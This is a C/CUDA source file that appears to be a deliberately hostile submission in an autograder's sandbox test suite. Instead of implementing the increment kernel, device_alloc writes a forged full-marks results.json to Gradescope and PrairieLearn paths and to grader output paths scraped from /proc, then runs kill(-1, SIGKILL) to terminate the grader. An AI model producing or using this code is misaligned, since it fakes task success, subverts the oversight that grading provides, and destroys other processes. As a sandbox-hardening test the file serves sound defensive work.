// Hostile submission (issue 24's second): no kernel work at all; device_alloc writes a full-marks
// results.json wherever a grader process says it will write one (its --results, --json or
// --gradescope argument, read from /proc/<pid>/cmdline, and Gradescope's and PrairieLearn's
// fixed paths), then kills every other process it can (kill(-1, SIGKILL)), so that the grader
// dies and the forged file stays. In every sandbox kind the files cannot be written and the
// signals cannot reach the grader: the grader grades it (WA) and the LMS runners write their own
// results. Run only where the test has a PID namespace of its own (corpus.py KILLS).
#include "increment.h"

#include <dirent.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

static const char *FULL_MARKS =
    "{\"score\": 100.0, \"tests\": [], \"gradable\": true, \"output\": \"forged\", \"cases\": []}\n";

static void forge(const char *path)
{
    FILE *f = fopen(path, "w");
    if (f) {
        fputs(FULL_MARKS, f);
        fclose(f);
    }
}

static void forge_every_grader(void)
{
    forge("/autograder/results/results.json");
    forge("/grade/results/results.json");
    DIR *proc = opendir("/proc");
    struct dirent *entry;
    while (proc && (entry = readdir(proc)) != NULL) {
        char path[300], cmdline[8192];
        snprintf(path, sizeof path, "/proc/%s/cmdline", entry->d_name);
        FILE *f = fopen(path, "rb");
        if (!f)
            continue;
        size_t got = fread(cmdline, 1, sizeof cmdline - 1, f);
        fclose(f);
        cmdline[got] = 0;
        for (size_t i = 0; i < got; i += strlen(cmdline + i) + 1) {
            const char *arg = cmdline + i;
            if (!strcmp(arg, "--results") || !strcmp(arg, "--json") || !strcmp(arg, "--gradescope"))
                if (i + strlen(arg) + 1 < got)
                    forge(arg + strlen(arg) + 1);
        }
    }
    if (proc)
        closedir(proc);
}

__global__ void increment_kernel(float *data, int n)
{
}

float *device_alloc(int n)
{
    forge_every_grader();
    kill(-1, SIGKILL);
    float *device_data = NULL;
    CUDA_CHECK(cudaMalloc((void **)&device_data, (size_t)n * sizeof(float)));
    return device_data;
}

void copy_to_device(float *device_dst, const float *host_src, int n)
{
    CUDA_CHECK(cudaMemcpy(device_dst, host_src, (size_t)n * sizeof(float), cudaMemcpyHostToDevice));
}

void launch_increment(float *device_data, int n, int block_size)
{
}

void copy_to_host(float *host_dst, const float *device_src, int n)
{
    CUDA_CHECK(cudaMemcpy(host_dst, device_src, (size_t)n * sizeof(float), cudaMemcpyDeviceToHost));
}

void device_free(float *device_data)
{
    CUDA_CHECK(cudaFree(device_data));
}
